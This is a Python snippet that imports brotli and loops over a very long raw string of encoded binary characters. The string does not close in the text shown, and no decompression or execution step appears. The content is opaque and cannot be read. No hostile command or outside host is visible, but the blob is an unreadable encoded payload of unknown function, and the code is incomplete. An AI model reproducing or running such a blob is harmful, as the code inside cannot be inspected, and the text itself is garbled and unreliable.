import brotli
n=a=0;b=1
for c in r'''Vkۜ¼\tP,ʭQ8Th+cAW?՝̺bDǡvVWi6<?#Ue!խ_qý3M5?s7ekɽ/q$y0eF7	/R,ɠėB#Kx7lʏٵ_Yʛэ*ל w(0GT0ТV˅ɍ:vڒ_OnՐQ[©
bO<0RZW<isMChcmoj3X[K	wׯ(iy<MѪ*HN`6BՠHAʘ??yRȼu~I|14WF/pOvAjоvc}3lNŸ'Xo2E3qׄSVؗd\t6R^kNĖ-0ٖGWԤ|<e\Pj+0Co;aAmS3ݧvze=?gnt "2
]ܚ%qfbc4g/N6?ݐЍCRΥEz>MtG*o(r/u4t7w`y3q;ޭ˾nn#ݭ[nԟB5a8!$9zvG,I5§_3NQ:s֢ʓÜ!zzߊr0(Ѵu9*,ّJZ,|CkT{<+ִz:,ã+ZLuӭzoV&aLmLMv^0w4q)-4"tyM#E73̋L'j@b}rO
}²Ҩcɔp#L
aaXr?p9ޙl5sY͐2\77
\b}l-nbyԱJQJ2Eys&Vy+ !L]j-~]۩YK7e~z)(<gIe[CIq7Ns?z1z''94Ux`ǚ+\NՋr-t@kKcޘj C`z=)@`up:
r~ܑr}V$n@ryeyͲh0o?t}ziw	{+ۼkS&)xJ՝NpQ8@*hƆw[_5=.g(-A֞*.ۺli3Pc%OlZЛ:ؗ*GŸ/'pޜS?Gg.%jAH@ڨ#
H(Ğ
ZfR!cHP|W-6ޡkϢ.IŎKg,Ӡ@,v)`i
2SUIkdAC ߢS(#}noüp
3fXˏ' A(e9TCm[-٬1S,x?EןMɼoמtq8cp}ݷEQ+poOuļX= Z`l|O1l3)Hd|[sR/yjdw=jitJۛN4ՋNa0OT3?Vu=߻ +%3\Ps^g:co?/%ɜ$.EMglE0+~jj^]1ޱ/WQgnKo4h3:x1@fdrdf4Bv`Bc)ĥԔ}'I,Hُb`Pn~
sE_NѿIf1f3Ĩ԰ps<˺~zEHL
}OUr^CuzMc`d.5ݜΫZsN]m>G=K`~%ɼ ɓJ	n5ldMutFۄ΀I	FHƔ;>Rwŏ?%.ѡ"F;'9iDLݘMv"VN+5y<;|^ܗOA(K(obNu/6F,
]j$lStQT2tfI#ϗy5e5ړ=Z̈a;6WpPzIܬUFLʂiʴt@Eשpw ϨQy(v-
7*lOӄ˚/KrI3$5>2	mVy 4 Ă.JԽ@SȗmS=W|T@2|jDw8Aİ׽r%ֿݯt؁s<	IU8io!ZV`L0eS3<_":nU`JKgl%2r?umR1:#C#57pC!:wēXQwaQܑæ cQZe);ŭʂ\ʤ?n'_2o}هbC%_7N	)}}k۔qqn$})Z> ǒSsrh"7:kaÛ@k212lB04#yZxΙ#:rG[2h$ݤ0"ւUID&IvI6vɲz8#ѾЇf*SCB)qמ%MѸ~=MT&U^o!z#~V]:AREߒ9Vkr}S`F-bޭo۝9tAĊĤz.Ո>#5`M%IۊZGpH#4!ji]۹$ʘflE)Ïv0?;:uT"!ҕT]]1,84kb&}RsNv^K˙	-S`Mt#\4&ٺs*#8/C!?]c\zv"ـ8[|HÔL[9fGy2s]X`(fKM.McnWDny?2н@lih4Bݝ0nѱʤԉbD!_{31Z[J`]hRkO|پnBU;ƃl0
*-1NhX%w#7mz?OV2_N"< Vߛt*z'Tt}ʼ^~faȵ{>aԻiVt֛m֑8}(`p:;¹JnylO@~w֜{g'_9FHٿuz>WPMxpHϼpbFն\@{W:ޜh0Sslh.QX})C1cj/SI3PN<\wNvSZMkœiWn'iphl3bӨ-{I2[#ԈE?D_%[Pj=!ٿIwǑNlE5Џ_=H4fƳO2\otΕE`qIyr4O$jɛ	S3"&`ml}ʇi?Cdh+Ow\.ǥ0EDyg5cM'D}_Fۃ}ٯP1qtwm${A?EhрcP(h5A4Q~99}hPتMQ}7cDO**ղk|_DXAѵ^5ݠqL=b$b$]WhNO4sXNZgoX'՟\UmĝOD!;AʹovEd@!U<!~%@xP|em	Ljøʱ>Lo=__~a!L_ЉIc[^iϿȀ6ApѴzǟģވIXۗXݞIZA;Ýc nP41ZkwF\A+h	~CN8`C}I̬ɭ<ĺ1w"<r}jr*L09ګ[|xN(>υqʹwK/u,>^#pkc@yt(1katg1`í1ˉ֍ٟG>M:;uv4N5%nǐx3tkǣmB%5ag̕eln8nڝǖТж;N̝sU6yUu>&(Z%W16ޠٴ"oӄ :m8cC`0~2مlQI$KT>&QY+ɄƣNNaiLۢ&23sL$X%w"po-)]l9]ZKSu99:]'ת*N-Cx}.n-~Nߛ!gA<"l-/sݛ5oyC6 	-RРd,:qo?AN޴XbN,Jʇ-k3H2ft=W	yV5p> h9Kfc
<I~\ۤ[vuKkv*9HVyVoF53ѺzȐVat؆erU/
;
);{y~.ԵRE<J+>?qy5
nS/dloDNE\PUǔ8I>ST,׹ͨhOuJB6s@D?$^b[8w^q&/m0.~ІC%sͿnggd\qG~ԑЦ>QMءؠ{kdڨ(Nyjx^+ ͡}?	ӮR0a%DHIo[L:)7ESRYW3L7ߚ{"MrmN.CSn
7>ӌ}'P8KhgsEw4$_E>3x$Ջ6|}vvc0'Ծ,٧Qg%ͶR\w<M
Jۑ
cEnO#b;g2p}mtb3&km69gp%P[.ϸ:ׯx5HR|0|5O|Q&<ŖeJ`~[ٗ$hV gI.kȍ?@>]	vMŸX#;y>N w|DkG1ƇAG.hFo>+lAG	f9U@ͧ ޵f!A,iӨ+cps*|eUhf{\jsZE8b~6ѳ,%пθSjP2Uw1؃3/$Xklg˳92ֱЈV9A72p	{(4DF}r3$1Zg֦JLsKe[+r_\yɮ&[!n#ѢW&VAP0>9њRs{RH^  cм4k+Bc|v{Člb7W\%#NTőͥ>U&'s38)(\cA\ĮaD۽Ο	]=h7+ !$55\h(m;P*8qVUk>d( \)#sÌQb`@rVտi
	7*ۣV>ԴLKiblA*ύ
Mb*7GVl{rޮĜ(ˢϵX>p׋#4Zڸ/y_-@b 0³A=a5ͷ6=2a`-MGf5o40V2ӯ@vl|5pNN}>[ضw~05PiSP޼0cť8VEޠa=~E%ҌW`a>S$/iWUsvYV[ˑz-yUBN
;^*8yAϐr9ޙ͐՝F9iopn^*vgvĜ?0#حbo.XK;IRX
Xp- Qևƀ4^g
ynɤSǵRf92ȸwV3wɓxQr~.J
m*f֐UϭNG֝2a9NS5Z0AHeqi@ -N{>Ĉ7:Ӽ>Pt$IAIW4euTk>i޸;;-ڃmbkdoq-(B\ېNAӢ5xB{A|ESg"تݖԛ{Ђm>aO#\yV-+f}<+g:/>CZ0KNcָΡcϷBܱcҊGc;5o]K˓e@{܂
Q# ;CПIYV9$9:Z]PЕT(jUF$eZw dlx/	,s2]ǧO
?\CYuU8'ܻ8ѧ{"ۈ24Fy<y+֡y^K,D&ŠQeHp=W?neLעX4VDJWaݗtK#T{	7~c&Ƃ])/-TʧqE
,2h>V[|*\ڛj33m[bW˶^eCEL3͍Vʾ"u]&q50Pʏ:dum6lbgĒKQ[oE82A]РO'iRlRmQ
vF1XnIvL/Z|uʤҚ/ti4D4)UMRaR,rN/B֑SZ@R=<ʹALLE_W%"}0Jm`vLkդו3H(Ϗݥ~`:wbLCByu3S</=)Wm-6nX"e7tO<շtWwn 3@t-'AEra
&FDF^"FiVJE6`M,Vb҄(=IK@h	
v]2u2+AHfsN
<fLp\˕=$B'N'ZPiP4f-/6>PQELdԙU!5N#fTǾ2e˸Ux8n-yޓ(m٦>s0wGtn-
\G>r.>U<\O!Ǉ3e8JjYnDM4QZNɯpbM@Fd\JiیGUKQhĞN1c1^^c>r9o%*]rKǱ̭K`uybmhޢV6I	.}ԭ&m}qdw<^̐#
 '6A#@*oKݠ~/ݺTP
Jb_Б$[KҲu߳| /%|/To͒l[Yfua18V`A+k#(5ccΌG{mcqº׷HK|etEV¢NLo3q.\D=s[ \/CͣwHP-<7F
27rrc"YrAmH֚91L^~¯(ڹYk&{e,dWQza$ҫ&S͌#C' |7PǮ2Tl(F1A!O2׍Gza8n@J?:GQ1^3Ĺwm׉Z~fudo^1XW_"36q_3Gl/،0G|oLcКb]-&ëq]M 6a-<+s[f!u
rCՌ6|f$qs݆΄8wWhޘ>*X0{u@W^oֆeIa,J֪QWY/!I5pυ ÿPˡWAa6Hvنɱ3±w{@ZʛϪQwͳR]kdM1Ġ.ogQh݁ 63tU+r?]ϩ8P$hkHHUƈgeĸ^AZ&u:ȥMjQMg	ڟJhD4
g5+{8R݃J$Ӱ
U$Y:*0E:CŸ>~99*'u?* ЪQgÛ`wő:X[GǜuZMj$I("F¤C؎k5ގ^q#dݿa1pdĵp>պ5]c84Pє{9˦5XTUx'z=&[qi!s+XLX$óZ1){cSSQHsi6n°%IMf5QAnnF?el(f]va/O`QJP%Dfrrʷ
d˧&2̮w"d*MI.v]Iăr<:@34?>Y]MM#ekАȉ'L8*i\Rmӯs-ܠaք&~f@$<*&fһE!`~b]g8IU{ .;TY`uMz2*GFL/(Cg6/l%,߭$TsIYOn_8?])Vyy k`{9s11Ik~CF31N-׵ߌmFLnغ	bOTNAhc+4L*RAh+QAK58=oޞԁK>#2ҭ~<q!{f43dЍ:JsZsq$~؞EIQW	z>"ÌB;g-0$LS2вLP'̥~(ؗƖVgA#"ެڎUGv?+5pa0.2B{9oFp`C]')-`y8b-.aM`-cKr[-siZ\(ơ^Kj۳4[L}:d:6:OBu8?d:6ǓEφ
Xluv<KGެ]bӮL:"OcN?b#9}ғΈаhͿ]$]e
^	ÖZ4ԓMRwō{I< iMN#fߢ:1^YO@?@mG=%-
k-IԼV]˒I`w,{Kf'B+e]έ@r"Òi&ƕ
nY݈54._ћ>rX(tiiv2#E-=aO@ٖwJ_[TyJ#>+} `]"EHǄVIVgxm)J]HܠJ~a	L*BΤLDF]J:ڛEϴͩ1l+ỳ*a)zBYFD
T{ug@d@nu̼wH<@&QD˃!TCy.R^`&qrϊ"S`
Ա9BD+U4аGVzw=ZԕcjY?Fl%4˒%ciQ^-3N?TVg=(4z)j#ǯCj^z"pPlKËp`/38H̀Yb1Tmpŏ$RyґXܚm)TִeT<#8~JpRۙ+Bt~Oi?qSw)@(ʰsи8uz+EnN[q\B(R"/!+kfi\g7o^qb:f̬Ǔ7	nB1iHE)vhl*a]^JjVRG	ajՋteobqG^Zq`<Db5_.T5|M_FХh=>tZ2.Ģnȗ2`lKy',|
2Mxٌ$5]~gĪT6jYFYFKOUėtqrpק-BE6{ϻªVIlI,8t\od||
]1p"*P9y"U|Xb
Ers@F2(Ƿ6B
/ԕPnWs
cvA=`]7b'J̛5rP؝Yc5j,heSR9}j6pҋ0:\\,H^x7-&Jx=	U7I*Ł	o%3E#fHJ+)8xw,oMSת
,}/]uFۑnIl¸;ӕRӷ
(¹Qly\b+ޡb[M+e/?IMbF\t~6^Ȳ`kK0'uIG:SeŹݹbˣ~a,n"ԹӞ΃ؔ)ei}YLz4lZulZ+ GBa.z0P߫aEk2B&K[lvG*Z+qȪ֣o4n̄Tx.4oF\Λ,Vu1?:ܸT8pDYe
kEAy.?khۺX_DY[oSqǙHzSh Wf_ЛןFTXکB L.6M8MZ˲,iGPŽNuBgC;WDka/4~. ǁBk9ӆaNvPОuI~Znp8oGK` "QUYYSʯڿ9gI-0tq	Q@A`Z0(WyA.07wЃVF5THu|ݴUt(I;5Uwza1o(ٵ|, DPiU]iY
o@[}lzI=l(<,0vB_cww;=n.,uHŊ?Lܚը&RTW֙0Ol
Neľ
,:Չ.`h}m?U0c̘:K:VaG_^`-d=JnV,<fԂ(yԿG@ٿ?̪=0;3(!ɇFų&qwg|RTt_(^6KS4V.qsp<'C|`+6ȃZVp[{_**~ȬK

4YV+{YϘ!٤0J|:o]/Syp,aV{(j4&vͲp4c?Vڒ+ήßf83ݳx1 [[v!d!a{7-&gGbJ2|XC$اc;IsfjQ M#&rX+W<*5ҩK|k,lO+zM^MvwNX`BR>^S 4}bƽlݘ-Ά[wZʶǦ8fK(eͥAv!ff>|(qX1D4-2lkpC>yTFkN:oمW-69	nJ̲˾6ƅt}eޗgXgRH&5[ВhXFl#;I3˷s`úIEZ2mHlR+ԏ"߃sc?mO's2[7ȷq \ZRo~L?MBcԝ	_ssu ?I؆@N5H'ѕ=AfgSDiIPRt>,H9gBT.14ҙ(xPN޽u0Ff \ƯBgܺ,bΛOO9s1OUr?7ۗMYU$ˬОRqnrjDPZd!I>t*YY`7
ڪQGZg3iIdΛi3>V;}D_$|I]08ŏ3qܺߚWI-m&A\O-Wig!4B=¼YYkrO);l5W5Ojd/<r|k]?3<d~`Yd"$`єЌ1רoFbHVzF{rH1+NBsnϮZDmIF	bs"vA_MP7+ǧEhՄD̀3.Sp7jÖ-0{qUTRZWwu*zYOYa	Hk(Z0aV&ovYi;ћ̥F܇G,nF:pȍ_U#Ks	=#(	 ?u-!CV'K&>A=Gɒi´-	շ]'t|eb`rLuA1$ĲkڝZ*Hk˹$N$'ȏ 
TIMPgKRZVo&i޺:V}L|N7sS=۝6"ݖ*aa%gA{Ʈ76d!>!Q)˘W5cTO!%R##ѓ`բKʂ1Hrnɶ1tJϺDlm kuWѱZ=}1s'yy">ojK&FԂ7ժZC"N1-9tC_#KE2=\#Z3TdIуI4z$DD~`#NBz<*S6d֊	I6-Do/زX u^iиVǫ7/di9CM4Ϭ?+̙*.u*;s45{(AACwjV޻OʿSPDeSB#[ZbC,r!?,+.H܋Pԛk%XYy/u\/I4p~yP ؽl/vS3,"А|+icE=>ǵA<nyfǯ&!ƋnTm10pT[#4m_E4ץn#DDGe]aԽ}N9EС?ץ=sWSّ!MlJ4k>Æ~&SG</ӬnR	yɇ>~C0 ڇ+\Ͳд*2r&$2{]ٻ`%$~_Nx֢]z8nAѣUXJ}hW<o&j-ԢMաL$ x|9ϿZCeE7cuc4'ٓտ:ZMrwSJTZ	h
Zf
rW٘P Tuq\e+k*U O12P$ܖ'ߘ`XQ>`CG4ϡoU&Mw@oTE$õNKIS-nwƵX;ܽ^ӄKp|3ܪEDxxckLP.50y/09i*lWx""$~Rx_JC٩֘vhK|e~mhEoɝ=}hb.HVcDOh@I|tڼTqqo2*GArB>F[)O&_uga6*_+>=@*7t?Bd6@tZQxYPY./Ig-ТїQbƤȇʶpG̗}^БCNvf&}&j]m40EE$9cc҉!8
}85Qj3JVԦ[YA5#9]ξcqE,G90f&IxO"s:w#'ĸĮ'C/o
I2@16
#URLȔ;l [J/´?3-l\MV|3Ֆ'O
Ù.~DڽpI6Qjݹ#hrZ˒ 65T
*ÖމZTT{Nտ0Oiv?ت+h+et6C>]bQ\u܂3j8WsŠ}3Qh`]cd`"s֍Kiĝ	K@ɺ#t"{6ړӓȎЙyȹ$?FAk-Ȣ|ʴr#;e׺nz0նTѸAħ=ޮ^1rƖvѿ'Nso9G`CpUҐHSӺˑh-9ѴW&h|6rr/k8(aջM%+~+՝:Y΄zo߳ׅNlU|TDA@dƕ+~nE86l͏8_?ū5X][ɏzN?Rg
2aLALl	
;S NnPFΌM\=Tbkw)YDc{ wkzǧAfٞr<@T>&ϱ8Lܩ z&	πD[b]ޟ+d<0q!N9Gf"|HAщ3y9ciiB.brf_#
vQԁ<(KizxOT`ۋw]؉(EttXÙ"(P]ّp5v-3uQNUZJTƃxV2ASebasy-W6WťPߥ^2Ĺț˹)\jlQťT;vg&ѝ+MdƕgpplpYqQ!`4IYZPNrTѼ!ԩ;V`pmנIyްwu6Wr٦(#+--/ܑ+g26vаZEq;'ǜCD:;4 C)
0/0OM62vëF] ʏϤi1a#voEڝ,"}]bet82Sm-M@]|	ظiVFv\]4bQkrt۰)N@q+<iDTRɊ/TZK9iKfT?v7:|Ԟ@ʡ5f&{Æ{`+<</FUc{b%9:mN{ԥXiX9KAg)?L:[;4M$>;Nu;AЄchVw8ÐmsvxF7LH/mye}6іЭR[]("=kgʙWXLA_8TsȆ֋S;h<{Q8`NȨݥrrB
ղ}dt=uCBȞ2QZn'HMkyf\\ԄK7.˴I9V+rwS݁Ye+	#5$Ԭ	sE6~mLϔKyn&JwٛF@̗FCcX"~;dP"A@u8pe{EӴ//}Rؼ^diI0OGۊUGp}AY\*{O1QO!/[A+gfvt"Z?Xm`""\qXS̞H~pӏkLէa>4w$jH&qr~Я~C%hcT=Qҵe0[ϫqnR,]N*BWb.k?St);z <Ov)E@7LMƷ

;ƮX'%QHN.+r&AQwЕWѳYږ
<V/E)%zڬFVjrՁ3vUV9\ J}y'>D\rdZˤjі@tRMĭn˺&9J4=VIXxىk)\;j*"CǞ=R;"{31sG?:R*hQO=,ns;sGT'1v_d?*#Xe®\Ԧ;VE'@$JlN#R UC;1=}ө:%PkjYO^gh>)$#VqM)i,XV2~`JEFxp!CߐA
!:)+f(({ǒ:4τں6jɒהשW|;c|k\\*Es-؜RɻΝCҷSes~E(yn[	y
;k(5]-0Eӫb֗tߋO6RZĪI9YEcvm)ËY5bL2<JaWBrIj7
#Y=	xzB<JMaK/]R@*E۳;ͅceߵIաZ'`<Yߣ, (Ň($@9| s,=#:y1^:adz)kDد<kNyԽƚ/KA7Q`&FeDEU2H:@ļ3hrn^-ۙ:63mȝ0>F(szTPĎ "Nx@Aۮzܺ!~X?gޕ%,DB`]N/ߪ&56چ>vUI-b\Ijsj<u]Y"4ǒu_֐izĆ.ѿ%d'{3K%;=`I$Vtaf̥]pؠ)Z=o^W^3uȃ=\Q]%KDVϖ#r9@icuбJ&3D
q'_Tި
1"`!g0qǝ(T/ՙtȫ@>:̄#DbcΏ=t<N#!`O)
Vnh}): \[JHP" Qd8ŃVzc`ŨOT1zҧ#ٝ_kG@jJUJ/Aa)?!&"VmBRp_3v:	*vDNՊq-%/:8a3UMeĢǎ1zæoIΪܑwݻ%xfFٗsO~/jma'CwO]s*׈rC@{{?hH$dλ9 i,Z}c|Ya4WRjH6 `9Pˋ֪{TjQӽagP!'u
+C*~kfpJ͉7BO!e?0&kSYi@/ ð*p+ҋs9׃h[g%ZsI"#O-z%'$b3Hϯ10TBIthw#u=ׇo~ )ÕhKhɘZ]f JZ_knfm03 8(Ϟ4ecpzPyMj"BZa\gpm;.InIUV[F`Ã.8ZXPƐ9?I:1ߩ"'aXGژ	/;.$XD1{s-$}]l܊sH!g܉޳̸ԅBGݰ0]<jwӪBS՚qXŅbwDO6<(T[w,W6vAg@ѳfYynU.Iۈpxad7^19z-fz~v_LfdcoHږ>İY'7f5ڌbڑ=I<]Ovי9U\1|T"`<߾;K\z.jڪ͡e}RȋMJ`J<=_X6DTnoWԵ")H%˚XlpS*Ay1kك`@6pfĔj}Ad/eW OS	]6uȇ(L{9=ɊGxN(̤)LLz	kEDҀU#$115z;E&Ҍ?><tTsu)eDJ3;^j.ц$tQС/5Z^7lBmnb_ִTJ+
d79{%o%1 g5}95vtΎ~vh̘4SOMu-pD"<.n&
3ř7؇[KBoP@Ł;1M_lạ!4ݓ<qGo9eݟˤ:$s{8YHB\F&?uU3Q+Ȥۮ>./EcyCmYmAbl4
P+=3?5g֫fŦ0ǾI/b,ܲߣC+4kuNbtٶc{"od}$Z%yI+uo	B	3vܲz]Cگr[LL8]ג__ׁ76W*?5
A|ݖHcϞzxd8|[rBLëǖX<ͫݤѠ̱BzFx[gpeB$u°so{wqNc ;@vt$Ae<E^PvRN<FzU
R3&,aR?lUi)Ou=qj_o0nۚ$2<iaШ(G÷Įo	eW'hq5-K	ߠW.X.,3gQEӌ=OϢ^'j/ȷl6Rg_|2D[#f׾v^I@BJҫݘt	N/`K\ע[JQȶqwiLxMRڪ/Ï/ѐ{؇v1?=e5٪)t(!8B'$ti1~\z0{HT%YL^Ɂ03P)H-|ͷTD220#ZEn-Mro|EHJ8% NṭƑJeJ}"w<bgh?hNhԀ1bE(=G]hBuO/Z	D(%-[BC?L0"BQǦƿUL"k-%;%"ƊR"Ҽlެ~vkK5Bz\~Ƙ]{ E6Xjŝ"~NoN,gUSh
PY^*6
	}76]ɡR
qSa'c1@٪Ȍ<1{BNSN͠\Kwƀݎ]]7>l\4ٱ ϧ!ͽ'RkO0+e[6c0r-UXÎ#'э,<h@p2,~ƘڠT<1b2ϴh=J9\ߠ[d޺_ʪ6`DM'\j˄8tqFpHKƪڵzf^2k=O+J^BN{B"N.ƛFuIѴ1Yi6g;Chf[	Gأ'8efuh6_:ɃDQ?k[1&b̯X?Q9pͧha)v_cΟ&;^6IrFgh׏ukˉ۟5)8'8`-"I"@e|DEuDpæ!P8ߦ$_޾Sm9J?6A514jD]~ZSJ&P	u ԛޛ-Ǚ۱niCܩ1rсmY4;69^v џ$ķ&[JÛخn%:yߏVߊ<7dE|t>սW6զY:zmm%-ϒcfK͕̳I)U֎t_17eTp]˄rpO<gڻH|F״sC*UfbjK
_ˮ ӡBhv`@uh(W6gy`=h5ks	bvƧS`B19	`o yVݲSPBzsq27"ȃZR)~M~5#iA_;,8N¡fѺN vW}fyVáK?9y](*jܬpr#.~Nɇ$٘@'>re*n?wg{hop5;GtN/1ҥl1]֢Ѱ)|;ЦWü<AךZQC-%*<i6Rw}ʍ";P*>j?D۳8
0ƥatqδe]B`m
:jĳJCrǐ	~oLB؟fkQ˗.;Prge02QxM$&Hďݞjτ-f&h݊Z>g-?:ؽ~giPȨ*^`@[BRm!qC-@]/^~\ӄf_.̃*IXk^*W3,W*h(2/ʍSb@FWh;0G\qFTz_@5θA!(y!YcNLOg܌ГzEx?Dv|Ǎʉ|OF!HÕZp,mJdaÑudw*	21fsy_ywtԨ!R !śױ/dfFՓC2֛N߲ԑWk$tI.[ 4߭MkgsuӠۭ?A8R}L;2èCD܁%r־.ܣ}*]m>"|?D76Td3Cў?P:׮Z3!tpȥ|ΨvXBtm,۷wV`EJH|vmt;ӉmONDJ?J<mfL,OԠ:բ
t4`_r:zgё<a֙6S?OuUn>5,#<xsY=R)ǎFf{KrFț82X"R#V#rM؍P6s#f7p*KI58ޘVq8WQpV8w9rz[#Ѕݸ:.tp&zj=Nl)>y.}^qQ]Ju	n^NռYh~E٧=ĩV7#D*x[@._[τ/So߱Nʇ",Fe?ji`C/oTU!UJŘjk{c8A)7^Ai,^b>kϓPmNb@'Ag6Fkr->{o[hƖ5u!2]`ضӯ'ʱaܞqȁ8VnZwԙէ14Cڱ,VFsektpR!fW3bհߧb]':7A->[ؚl\o_G>#`ђz5W#pTn@O!fȥۗ`zGDETg2(lA3>]cPYB->!SӶ3߂MpD& 	ݗWf9ҷ޲gӃH<9бھjD?z%}׻eEJ.1_vdي3}jT9gZĺ<"ծ)V]ȓ"lYlpYzҍ;ր\[LO.
&{o"<*ђexN!fDč֗I/kH{iҒD4+:7~2`ӝBVU%ܲ>Zܸ'mHN=|Z7u$6-zS4.Pa#N!fvn?jۯQ|>_Y-pؐ߾l&|p5)P'֪|/Wy;Yh֩ȣ1#DMZ2GBdylO_&1hdSO"0$v]LL<.$%R|<5UrCz߉Npb(+,Uhyրs*̈́r`C(:ǊJLW7XvaKt`0ח|֯sH{F-@ډRq1hO-B͔O,`"ǀ4j
$ߏ)@׬ېpD\F0cөSXoɒBWVϔHPr6!7ώrwYbQȨZuIJ|<O3nWKrHʹBB+LryZҩ'bZO`Cڔ/@K{Ae9Zߏr8)1!ݐKƊNíaؼLkܣso8ό:>mUV'sb*ݎZS2I֒ё[<|:ëښݵHgbSj797c|K%AZQɓե6TӾƺ}20#wGCW,/Nv")yY7	Q#M>Qd(~e׌N7a?YrmݗȹߑF-̆=Hىx^X1u(n'o-5}gגAh4T*B3' f0w|e[ApQSK}PE=]_֮`LUWKٝX^C|4*askRZo0f:?]C9MAhmn6K#4oU!e׾@$tkzG +49zj!kJ݊,1{?a|ΛIU1<Yч1.vg5,)Sߺ_cviRٚmV%5bER<h}6DQtu$A3q9$kP_Y*##]z@<RpeecDǬnz*;$v:ΫpvlQܾg'ʒ٭ނu@#|-W}̸h/YA@t_v،C҈q;q,(YӼaE.u̞M.#r-}	(W*"V%4iqǹB#P(^߬=VyAd$\CT̥I-#1Pbs\Z2Hf#1!#Vəco2CkOç2R+ RܻE\zc$xxFO5r-OIncW(R,kpPWϷ5Z|c&&o|EQQxZ5þ!\Zws`DlD9u		i4RSi>zaxtܘZibdr 3uZȟԝKNgt>~{Csp͸/vÐʠZw8]ԋ(Jz!fB͌jrbCf	nmXc36ǌ˃ڔ/G	Dحʫt]LUsۉ^|*y&J8@ΚV']b)ߵj-ڼ+Ʈ2,x̏Z,hW_~p(tRORF(vb?*0	LTl*k^Ҫ5CNW_ %1e@V΢%Ӯ:fu߅bQ_9m`n!9D3UnTuƃKEz	шįMۈ/"хPNzZkJ8DмPx4nŐJ1(>-Z>tACmXDi@)WC!n`oWil97RSzXkg}$\igǐò˱ӞǪA͍Ȓ/aB=Ѱɛ]o!+
y4%k3Xoir^ѾIP^3ƵV2)32*X Q`r`:݁Xd6GdD4h˿Jv<ejN<YH%>RV;y(ɛCNjvƓ}#IcPúE<YiͭbJ-ʥQuĎ;`gWю%w!iȜ]Y$~..د5,J<;k<:&N|Դi0ks͔פ*\~-ߡdjy7$!Cqu[+l՞Q:T3 7ͪ+|c:([q*IMlğIHG.Pi~1]!w>O.69*Sp0X]\DuD87DE_/Tq;HF$ď$р;ӈX`݄ھB;G?0O+Ү1x۽Ty>o6 -fK0`X+OC0/.*Pl5לL*_̒QTshE?9(BR]4<c܃a]6˵jؤ+a&hQ@Oqű&%"M	T0&tz. (еmYg3 ]ϰ8Za'f@IJY#xXϣ6X߱ůnQc}v[;ե17Xt{6SMc^Cx,ޭ	`}TvU?chӧߨ.en^ȹuI[g_'q}Te սT8q#B4)_eP<MW[R0-S{Q(iYtKmڀWӖ0Ε[h jWE-MP4iӌukWJ*ҙbyh>UY,uݲ'Pՠե|gԋ4yw̽7RSΔ	9Ky[=V߯w	H,X 0`?GMc?6+L,GݵL)Ԙ5,L7})	Z%ѕcqGrN2(JH]eBÌ*zs17,]"AQ 0<K5`#;G{P$2oX2H٣ȭGZڲۤ<@ܹՄê8}=7w|ӫޣO8ɠwLI=clqp>}=nC&j|KH(oQ׿|c|
uKHޝWѾkzU+vplO]NHEG8_CH~uRG1I1h"tAWt^"cjpC_ЌbEyكӌ7(%P]?Ǎ%`pO\Ʋ1$`¼0N42pLGjx0*Wp{4 2٢͜* q*NIͫY^m/NIVhQ<Ɔj*q[PB`x΃FkdXc<0]ۜ1Ԛ\?2D8/]Sp֜+owD G!&wpޙNJȞc!PC/_R)k[ްLf~ףhb:ćµ=N=6Wʉ\սڎZŉӮ^9%ߜћ7F%_+uJ	Aaѵ*)s&	q3ݤw:T#z=޹1;y-VĊDC7cy&J>߉Yz1_L\S8wߴ9vdF>_ež/'ʾջ-.g@r״lqe]C%մoGmhҺײUOh
4PhK,ZX*t\GYjĤ\=,LT͖=uačF/IMW5ؑx?m}?0s&.5h%zǇAB
 W9FB0)pM'P$7Dl&pi9XXsb81?<-CXv
r4(ڤ>h(k?4
 ߔS׻u8Ni>¨
Kg'n,8H&]\bv$)]1VC[/tpڏZLߩ/x˹:go32urAg9ďў!&>;bʱaf@),p	Vssi0dY1[ߝO
o#Ss#1& ލڎZ@nK_)KD:ӛ.BEڑew\(Lݙf1*Wõ;0lO2=>TT!GP՟<8ܫUEy͟#Yt݆o^'^8_C)*OȭO9=xn;s\]6[ҥOzu7Yjb;Ԗ6]+=89;VLl=?F$[3QV_k)M<˟yjpN5O
"#q6+Zl=1nĬ(
4Q4zYà061e*Y"ֿ/0~,"J"4m%Owj%TF@6(W%V@`[ÊQ
934O0P;^ôK F+1͗ľ*XtlK%r~y4hp7ۿNb[>(]˦Q*9JK$Kyyi`HWz-BB^SIcVPJײNqC
m3ѦRb2RۈLE4	͒2)nVڵ+ ԑPܢu/s3*{cXYFtJW2zVBŸ ظa)X* ƿ8ۣșPFpr K@hݛ6tg;֠ZJp%%Zg9SE\q[ąc#ɆdB-ʈ0?EV%Eyc0˶]zQ>߂EH(PMcʥtl+mOp̗~l.FoԔs-͌{CU?>;؛͖cj1Ʒx7G:`VB{	uXmH24IMӟ S36Xauf7{oI]Z& .T̨:BȎ&,y#7D`fǾ0ۖ.$7Gdtڵq)X%(ɅHUrn">Br~q9Wx5Ӗ>Ķy$p}Ld^E1xg͵Vǹ<D9UCG
dfKs{LGȇ~FvїqY6ܘܘ[Gy/o_[ު$xe<midn;A%']q%$fwHCw0:ow6H-&ֺȶA^540"HҰd,*@|.{dlyB[; "ƍxUgg.?0P6-Ƈyis£kp-cJ,(?"Z	9x|Ugߎ͔	q*a[U@Ip[σǵBD2gybl}MBղ,-DQm	T
}ݔvGObPXx>#tag$*Փcg&ٱnIfc4+nf+;A̧׀\}0@Hޗ:JwI@#*%;CBSVWG. .t"$0:PeIz;b"LsφJ(1X}ӰB[j,DLgdu_
۫Nu_Ƈ>lA)"@?|}6^DCʼ/0o݄_^jΧ
)Lgˏ!zIddtt6Fκs1r$Dô"vTusmP]YccΟ:&PE8v3U|<ZȌūKȠ%dyCu2n2+T͘Ʉ1tZRpdi֍lmLE-X̸}NFO%җL*ܛԙQA>ٶÔU:U8:QU7ܳ9
$5MȞհ`ܺ((c҄sdjV7Ԑag.ާM55o9D3@U?T:ڿA.JUijAs}wy!uiå}4Kl0v`<&pHALv1ܵ΢V|ʗ04x<am1"oli_>F1&hT[Bڧېx޾[ת4fm1ױyO؛IN$Cqbh/s^D͵`EMįxO1sQϙiG  #Dl\ђreٗ6Ի.ݝ$:nȆQ7؎{.;ƥ4?dRbn4hVӨ@RLnHhQFk*tL0yH7ke'(Nmg٥DF<n1ĦzW+rka	:ZE M8sLґ\`Bm1{ÞQv];4R]Z;,.)xK6
N4m{$QRV(5i8VɄyȿ;ٜJ{Fȧ'>.oR/ΤŲKҀ`I8f}tyW0qE4JIB~lʦ4ms>*t5X!7uzVKaW{߻yh6$H<iGFއz
